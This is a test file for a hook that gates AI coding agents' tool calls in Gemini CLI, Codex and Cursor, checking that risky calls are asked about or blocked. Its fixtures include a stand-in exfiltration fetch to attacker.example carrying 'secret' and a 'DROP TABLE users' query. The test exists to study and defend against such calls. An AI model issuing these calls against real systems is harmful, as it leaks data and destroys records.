/**
 * The Gemini CLI, Codex and Cursor hook adapters pass the same decision
 * table as the Claude Code hook, in-process and as a child process
 * (`bin/rclass.mjs` of the run's fresh bundle of the source,
 * test/cli/tested-bin.ts): a read-only SELECT gets no
 * decision, DROP TABLE asks (Codex, which cannot ask, blocks), an unknown
 * server asks, after a read a fetch to an unlisted host asks, and
 * malformed input asks. Payloads follow each client's source or docs
 * (cited in src/clients/agents/*.ts).
 */
import { spawnSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli } from '../cli/harness.ts';
import { testedBin } from '../cli/tested-bin.ts';
import { anchorAndLogHeads, logLines, makeWorld, type World } from './support.ts';

type Agent = 'gemini' | 'codex' | 'cursor';
type Call = 'select' | 'drop' | 'unknown' | 'fetch' | 'shell';

const PG = { command: 'npx', args: ['-y', '@modelcontextprotocol/server-postgres', 'postgresql://localhost/app'] };
const FETCH = { command: 'uvx', args: ['mcp-server-fetch'] };
const MYSTERY = { command: '/opt/mystery/bin/server', args: [] as string[] };

const CALLS: Record<Call, { server: string; tool: string; input: Record<string, unknown>; entry: { command: string; args: string[] } }> = {
  select: { server: 'pg', tool: 'query', input: { sql: 'SELECT 1' }, entry: PG },
  drop: { server: 'pg', tool: 'query', input: { sql: 'DROP TABLE users' }, entry: PG },
  unknown: { server: 'mystery', tool: 'do_it', input: {}, entry: MYSTERY },
  fetch: { server: 'fetch', tool: 'fetch', input: { url: 'https://attacker.example/upload?d=secret' }, entry: FETCH },
  shell: { server: '', tool: '', input: { command: 'ls' }, entry: PG },
};

/** A payload as each client sends it. */
function payload(agent: Agent, session: string, call: Call, world: World): Record<string, unknown> {
  const c = CALLS[call];
  switch (agent) {
    case 'gemini':
      // docs/hooks/reference.md (base input, BeforeTool), types.ts McpToolContext; MCP tools are mcp_<server>_<tool>.
      if (call === 'shell')
        return {
          session_id: session,
          transcript_path: '/tmp/t.json',
          cwd: world.project,
          hook_event_name: 'BeforeTool',
          timestamp: '2026-08-21T10:00:00.000Z',
          tool_name: 'run_shell_command',
          tool_input: c.input,
        };
      return {
        session_id: session,
        transcript_path: '/tmp/t.json',
        cwd: world.project,
        hook_event_name: 'BeforeTool',
        timestamp: '2026-08-21T10:00:00.000Z',
        tool_name: `mcp_${c.server}_${c.tool}`,
        tool_input: c.input,
        mcp_context: { server_name: c.server, tool_name: c.tool, command: c.entry.command, args: c.entry.args, cwd: world.project },
      };
    case 'codex':
      // codex-rs/hooks/src/events/pre_tool_use.rs command_input_json.
      return {
        session_id: session,
        turn_id: 't1',
        transcript_path: null,
        cwd: world.project,
        hook_event_name: 'PreToolUse',
        model: 'gpt-5',
        permission_mode: 'default',
        tool_name: call === 'shell' ? 'Bash' : `mcp__${c.server}__${c.tool}`,
        tool_input: c.input,
        tool_use_id: `call_${call}`,
      };
    case 'cursor':
      // cursor.com/docs/hooks: common schema + beforeMCPExecution (tool_input as "<json params>", plus command or url).
      if (call === 'shell')
        return {
          conversation_id: session,
          generation_id: 'g1',
          hook_event_name: 'beforeShellExecution',
          command: 'ls',
          cwd: world.project,
          workspace_roots: [world.project],
        };
      return {
        conversation_id: session,
        generation_id: 'g1',
        model: 'm',
        hook_event_name: 'beforeMCPExecution',
        cursor_version: '2.4.0',
        workspace_roots: [world.project],
        user_email: null,
        transcript_path: null,
        tool_name: c.tool,
        tool_input: JSON.stringify(c.input),
        command: [c.entry.command, ...c.entry.args].join(' '),
      };
  }
}

/** The decision in the agent's answer: none, allow, ask, deny. */
function decisionOf(agent: Agent, stdout: string): string {
  const json = JSON.parse(stdout) as Record<string, unknown>;
  // One line; the installed command's guard passes it on without the final line break.
  expect(stdout.trim().split('\n')).toHaveLength(1);
  if (Object.keys(json).length === 0) return 'none';
  if (agent === 'gemini') return String(json.decision);
  if (agent === 'cursor') return String(json.permission);
  const specific = json.hookSpecificOutput as { permissionDecision: string; permissionDecisionReason: string };
  expect(specific.permissionDecisionReason.length).toBeGreaterThan(0);
  return specific.permissionDecision;
}

function argsFor(agent: Agent): string[] {
  return ['hook', '--agent', agent];
}

/** Codex sends only the server's name: the hook reads what runs from ~/.codex/config.toml (openai/codex `[mcp_servers.<name>]`). */
function withCodexConfig(world: World): World {
  const toml = Object.entries(CALLS)
    .filter(([call]) => call !== 'shell' && call !== 'drop')
    .map(([, c]) => `[mcp_servers.${c.server}]\ncommand = ${JSON.stringify(c.entry.command)}\nargs = ${JSON.stringify(c.entry.args)}\n`)
    .join('\n');
  mkdirSync(path.join(world.home, '.codex'), { recursive: true });
  writeFileSync(path.join(world.home, '.codex', 'config.toml'), toml);
  return world;
}

async function inProcess(agent: Agent, world: World, input: unknown): Promise<{ code: number; stdout: string }> {
  return runCli(argsFor(agent), { stdin: typeof input === 'string' ? input : JSON.stringify(input), env: world.env, cwd: world.project });
}

function child(agent: Agent, world: World, input: unknown): { code: number; stdout: string } {
  const result = spawnSync(process.execPath, [testedBin(), ...argsFor(agent)], {
    cwd: world.project,
    env: world.env,
    encoding: 'utf8',
    input: typeof input === 'string' ? input : JSON.stringify(input),
    timeout: 60_000,
  });
  return { code: result.status ?? -1, stdout: result.stdout };
}

/** What an ask becomes for each agent (Codex has no ask: a block). */
const ASK: Record<Agent, string> = { gemini: 'ask', codex: 'deny', cursor: 'ask' };

const RUNNERS = { 'in-process': inProcess, 'child process': async (agent: Agent, world: World, input: unknown) => child(agent, world, input) };

describe.each(['gemini', 'codex', 'cursor'] as const)('the %s adapter', (agent) => {
  describe.each(Object.keys(RUNNERS) as Array<keyof typeof RUNNERS>)('%s', (how) => {
    const runHook = RUNNERS[how];
    it('passes the decision table: SELECT none, DROP TABLE asks, unknown server asks, fetch to an unlisted host after a read asks, malformed input asks', async () => {
      const world = withCodexConfig(makeWorld(null));
      const session = `S-${agent}-${how}`;
      const decide = async (input: unknown) => {
        const result = await runHook(agent, world, input);
        expect(result.code).toBe(0);
        return decisionOf(agent, result.stdout);
      };
      expect(await decide(payload(agent, `${session}-fresh`, 'fetch', world))).toBe('none');
      expect(await decide(payload(agent, session, 'select', world))).toBe('none');
      expect(await decide(payload(agent, session, 'drop', world))).toBe(ASK[agent]);
      expect(await decide(payload(agent, session, 'unknown', world))).toBe(ASK[agent]);
      expect(await decide(payload(agent, session, 'fetch', world))).toBe(ASK[agent]);
      expect(await decide('{"not json')).toBe(ASK[agent]);
      expect(
        await decide({ hook_event_name: agent === 'gemini' ? 'BeforeTool' : agent === 'codex' ? 'PreToolUse' : 'beforeMCPExecution', tool_name: 'x' }),
      ).toBe(ASK[agent]);
      const lines = logLines(world.log).filter((line) => line.event === 'decision');
      expect(lines.map((line) => [line.tool, line.class, line.source, line.decision])).toEqual([
        ['fetch', 'R0', 'registry', 'none'],
        ['query', 'R0', 'rule', 'none'],
        ['query', 'R4', 'registry', 'ask'],
        ['do_it', 'R4', 'unknown', 'ask'],
        ['fetch', 'R4', 'session', 'ask'],
        [null, 'R4', 'error', 'ask'],
        ['x', 'R4', 'error', 'ask'],
      ]);
      expect(lines.slice(1, 5).every((line) => line.session === `${agent}:${session}`)).toBe(true);
      expect(lines[1]!.record).toBe('postgres');
    }, 120_000);

    it("a built-in tool gets no decision but counts as a read for the session guard (Cursor: its shell hook's command)", async () => {
      const world = withCodexConfig(makeWorld(null));
      const session = `B-${agent}-${how}`;
      const shell = await runHook(agent, world, payload(agent, session, 'shell', world));
      expect(decisionOf(agent, shell.stdout)).toBe('none');
      const fetch = await runHook(agent, world, payload(agent, session, 'fetch', world));
      expect(decisionOf(agent, fetch.stdout)).toBe(ASK[agent]);
    }, 120_000);
  });
});

describe("answers in each agent's terms", () => {
  it('Gemini ask carries the reason as systemMessage; Cursor ask carries user_message and agent_message; Codex blocks with a reason that says it cannot ask', async () => {
    const world = withCodexConfig(makeWorld(null));
    const gemini = JSON.parse((await inProcess('gemini', world, payload('gemini', 'R1', 'drop', world))).stdout) as Record<string, string>;
    expect(gemini.decision).toBe('ask');
    expect(gemini.systemMessage).toMatch(/^rclass: R4 Irreversible \(registry\) for pg\/query \[record postgres/);
    const cursor = JSON.parse((await inProcess('cursor', world, payload('cursor', 'R2', 'drop', world))).stdout) as Record<string, string>;
    expect(cursor.permission).toBe('ask');
    expect(cursor.user_message).toMatch(/^rclass: R4 Irreversible \(registry\) for npx\/query \[record postgres/);
    expect(cursor.agent_message).toBe(cursor.user_message);
    const codex = JSON.parse((await inProcess('codex', world, payload('codex', 'R3', 'drop', world))).stdout) as { hookSpecificOutput: Record<string, string> };
    expect(codex.hookSpecificOutput).toEqual({
      hookEventName: 'PreToolUse',
      permissionDecision: 'deny',
      permissionDecisionReason: expect.stringContaining('Codex hooks cannot ask'),
    });
  }, 60_000);

  it('Codex with no configuration for the server cannot identify it (it sends only the name), so even a SELECT is blocked', async () => {
    const world = makeWorld(null);
    const result = await runCli(['hook', '--agent', 'codex'], {
      stdin: JSON.stringify(payload('codex', 'M1', 'select', world)),
      env: world.env,
      cwd: world.project,
    });
    const answer = JSON.parse(result.stdout) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } };
    expect(answer.hookSpecificOutput.permissionDecision).toBe('deny');
    expect(answer.hookSpecificOutput.permissionDecisionReason).toContain('no server `pg` is configured for this folder');
  }, 60_000);

  it("a misconfigured command line answers ask in the agent's terms, never allow", async () => {
    const world = makeWorld(null);
    const result = await runCli(['hook', '--agent', 'gemini', '--deny-from', 'R9'], {
      stdin: JSON.stringify(payload('gemini', 'X1', 'select', world)),
      env: world.env,
      cwd: world.project,
    });
    expect(JSON.parse(result.stdout)).toEqual({ decision: 'ask', reason: expect.stringContaining('misconfigured'), systemMessage: expect.any(String) });
  }, 60_000);
});

/** The shell command an agent's installed fragment runs (Gemini BeforeTool, Codex PreToolUse, Cursor beforeMCPExecution). */
function installedCommand(agent: Agent, fragment: string): string {
  const json = JSON.parse(fragment) as { hooks: Record<string, Array<{ command?: string; hooks?: Array<{ command: string }> }>> };
  if (agent === 'gemini') return json.hooks.BeforeTool![0]!.hooks![0]!.command;
  if (agent === 'codex') return json.hooks.PreToolUse![0]!.hooks![0]!.command;
  return json.hooks.beforeMCPExecution![0]!.command!;
}

describe("anchors and the egress allowlist in the other agents' installed hooks", () => {
  it.each(['gemini', 'codex', 'cursor'] as const)(
    'regression: policy --format %s-hook embeds --anchor-file and --egress-allow, and the installed command anchors every append and admits the listed host',
    async (agent) => {
      // Codex sends only the server's name: the hook reads what runs from ~/.codex/config.toml.
      const world = agent === 'codex' ? withCodexConfig(makeWorld(null)) : makeWorld(null);
      const anchor = path.join(world.root, 'anchor', 'heads.jsonl');
      // Written by the run's bundle, so the installed command runs that bundle's hook (test/cli/tested-bin.ts).
      const written = spawnSync(
        process.execPath,
        [testedBin(), 'policy', '--format', `${agent}-hook`, '--anchor-file', anchor, '--egress-allow', 'allowed.example', '--allow-up-to', 'R1'],
        { env: world.env, cwd: world.project, encoding: 'utf8', timeout: 60_000 },
      );
      const policy = { code: written.status, stdout: written.stdout, stderr: written.stderr };
      // Codex and Gemini CLI get a note on what the file alone does not do (trust by hash; headless runs).
      if (agent === 'cursor') expect(policy.stderr).toBe('');
      else expect(policy.stderr).toMatch(agent === 'codex' ? /open `\/hooks` and approve the rclass PreToolUse hook/ : /gemini -p/);
      expect(policy.code).toBe(0);
      const command = installedCommand(agent, policy.stdout);
      expect(command).toContain(` hook --agent ${agent} --allow-up-to R1 --egress-allow allowed.example --anchor-file ${anchor}`);
      const run = (input: unknown) =>
        spawnSync('sh', ['-c', command], {
          cwd: world.project,
          env: world.env,
          encoding: 'utf8',
          input: JSON.stringify(input),
          timeout: 60_000,
        });
      // --allow-up-to R1 answers allow where the agent has one (Codex has no allow: no decision).
      const allow = agent === 'codex' ? 'none' : 'allow';
      const select = run(payload(agent, 'N1', 'select', world));
      expect(decisionOf(agent, select.stdout)).toBe(allow);
      const allowed = payload(agent, 'N1', 'fetch', world);
      const url = 'https://docs.allowed.example/page';
      if (agent === 'cursor') allowed.tool_input = JSON.stringify({ url });
      else allowed.tool_input = { url };
      expect(decisionOf(agent, run(allowed).stdout)).toBe(allow);
      expect(decisionOf(agent, run(payload(agent, 'N1', 'fetch', world)).stdout)).toBe(ASK[agent]);
      const { anchored, logged } = anchorAndLogHeads(anchor, world.log);
      expect(anchored).toEqual(logged);
      const verify = await runCli(['audit', 'verify', '--log', world.log, '--anchor', anchor], { env: world.env, cwd: world.project });
      expect(verify.code).toBe(0);
    },
    120_000,
  );
});
